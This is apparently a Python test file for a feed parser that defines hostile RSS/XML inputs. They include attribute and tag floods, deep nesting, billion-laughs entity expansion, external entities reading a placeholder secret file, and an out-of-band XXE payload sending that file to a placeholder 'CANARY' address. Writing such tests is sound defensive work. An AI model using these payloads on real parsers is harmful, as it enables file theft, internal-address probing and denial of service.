"""Hostile bodies made of markup: floods, nesting, entities, and what leads out of the document."""

from tests.feeds_server import item, rss
from tests.hostile_bodies import ANY, Hostile

HEAD = b'<?xml version="1.0"?>'


def with_doctype(doctype: str, *items: str) -> bytes:
    """An RSS document with a document type of its own, which may hold entities."""
    return HEAD + f"<!DOCTYPE rss {doctype}>".encode() + rss(*items).removeprefix(HEAD)


def raw_item(inside: str, attributes: str = "") -> str:
    """An item whose inside is markup as it is."""
    return f"<item {attributes}><title>a</title>{inside}</item>"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
FLOODS = (
    Hostile(
        "attribute flood",
        "Parsers that look at every attribute once for each other one.",
        rss(raw_item("", " ".join(f'a{n}="x"' for n in range(40_000)))),
        ANY,
    ),
    Hostile(
        "namespace flood",
        "Parsers that carry all declared namespaces along.",
        rss(raw_item("", " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000)))),
        ANY,
    ),
    Hostile(
        "comment flood",
        "HTML cleaners that search for the end of a comment again and again.",
        rss(item("a", summary="<!--" * 100_000)),
        1,
    ),
    Hostile("tag flood", "Trees built of five megabytes of tags.", rss(item("a", summary="<b>x</b>" * 250_000)), 1),
    Hostile("signs less than", "Tag finders that begin at each of them.", rss(item("a", summary="<" * 200_000)), 1),
    Hostile("ampersands", "Entity finders that begin at each of them.", rss(item("a", summary="&" * 200_000)), 1),
    Hostile(
        "pictures without end",
        "Searches for a picture's address that run to the end each time.",
        rss(item("a", summary="<img " * 60_000)),
        1,
    ),
    Hostile(
        "a picture of two megabytes",
        "What keeps the picture's address, which is the picture.",
        rss(item("a", summary=f'<img src="data:image/png;base64,{"A" * 2_000_000}">')),
        1,
    ),
    Hostile(
        "script without end",
        "Cleaners that wait for a closing tag that never comes.",
        rss(item("a", summary="<script>" + "if (a < b) " * 40_000)),
        1,
    ),
    Hostile(
        "20,000 items",
        "Memory, and whatever does one thing for each item.",
        rss(*(item(f"t{n}", f"https://news.example/{n}") for n in range(20_000))),
        ANY,
    ),
    Hostile(
        "20,000 enclosures",
        "Lists inside one item.",
        rss(raw_item("".join(f'<enclosure url="/{n}.png" type="image/png"/>' for n in range(20_000)))),
        ANY,
    ),
    Hostile(
        "20,000 titles",
        "Fields that are taken to be there once.",
        rss(f"<item>{'<title>a</title>' * 20_000}</item>"),
        ANY,
    ),
    Hostile("a title of a megabyte", "Every field that is stored or shown.", rss(item("x" * 1_000_000, "/1")), 1),
    Hostile(
        "a guid of a megabyte",
        "Indexes on what an entry is called.",
        rss(item("a", "/1", guid="g" * 1_000_000), item("b", "/2", guid="g" * 1_000_000 + "h")),
        2,
    ),
)
NESTING = (
    Hostile(
        "nested elements",
        "The stack of the XML parser.",
        rss(raw_item("<div>" * 20_000 + "</div>" * 20_000)),
        ANY,
    ),
    Hostile("elements never closed", "The same, and the end of the document.", rss(raw_item("<a>" * 100_000)), ANY),
    Hostile("nested HTML", "The stack of the HTML parser.", rss(item("a", summary="<div>" * 20_000)), 1),
    Hostile("items in items", "What takes an item to be a leaf.", rss("<item><title>a</title>" * 5_000), ANY),
    Hostile("CDATA never closed", "Sections that end with the document.", rss("<item><title><![CDATA[ a"), ANY),
    Hostile("a quote never closed", "Attributes that end with the document.", rss(raw_item('<link href="')), ANY),
    Hostile("an instruction never closed", "Instructions likewise.", rss(raw_item("<?php echo")), ANY),
)
ENTITIES = (
    Hostile(
        "billion laughs",
        "Entities of entities that unfold to gigabytes.",
        with_doctype(f'[<!ENTITY l0 "ha">{LAUGHS}]', raw_item("<description>&l9;</description>")),
        ANY,
    ),
    Hostile(
        "one long entity, often",
        "Entities that are not nested and unfold all the same.",
        with_doctype(f'[<!ENTITY x "{"x" * 50_000}">]', raw_item(f"<description>{'&x;' * 20_000}</description>")),
        ANY,
    ),
    Hostile(
        "an entity that is a file",
        "Secrets on the operator's machine, shown as a title.",
        with_doctype('[<!ENTITY f SYSTEM "file://SECRET">]', "<item><title>&f;</title><link>/1</link></item>"),
        ANY,
    ),
    Hostile(
        "an entity that is a page",
        "Addresses that only the operator's machine can reach.",
        with_doctype('[<!ENTITY f SYSTEM "CANARY">]', "<item><title>&f;</title><link>/1</link></item>"),
        ANY,
    ),
    Hostile(
        "a parameter entity that is a page",
        "The same, before the document has begun.",
        with_doctype('[<!ENTITY % f SYSTEM "CANARY"> %f;]', item("a")),
        ANY,
    ),
    Hostile(
        "a file sent away in an address",
        "Secrets on the operator's machine, told to a stranger's server.",
        with_doctype(
            '[<!ENTITY % s SYSTEM "file://SECRET"><!ENTITY % d "<!ENTITY &#37; o SYSTEM \'CANARY?%s;\'>"> %d; %o;]',
            item("a"),
        ),
        ANY,
    ),
    Hostile("a document type that is a page", "Validating parsers.", with_doctype('SYSTEM "CANARY"', item("a")), ANY),
    Hostile(
        "a style sheet that is a page",
        "Parsers that transform what they read.",
        HEAD + b'<?xml-stylesheet type="text/xsl" href="CANARY"?>' + rss(item("a")).removeprefix(HEAD),
        ANY,
    ),
    Hostile(
        "XInclude",
        "Parsers that put documents together.",
        rss(
            '<item xmlns:xi="http://www.w3.org/2001/XInclude"><title>a</title><description>'
            '<xi:include href="CANARY"/><xi:include href="file://SECRET" parse="text"/></description></item>'
        ),
        ANY,
    ),
    Hostile("an entity escaped often", "Decoders that go on until nothing changes.", rss(item("&amp;" * 50_000)), 1),
)
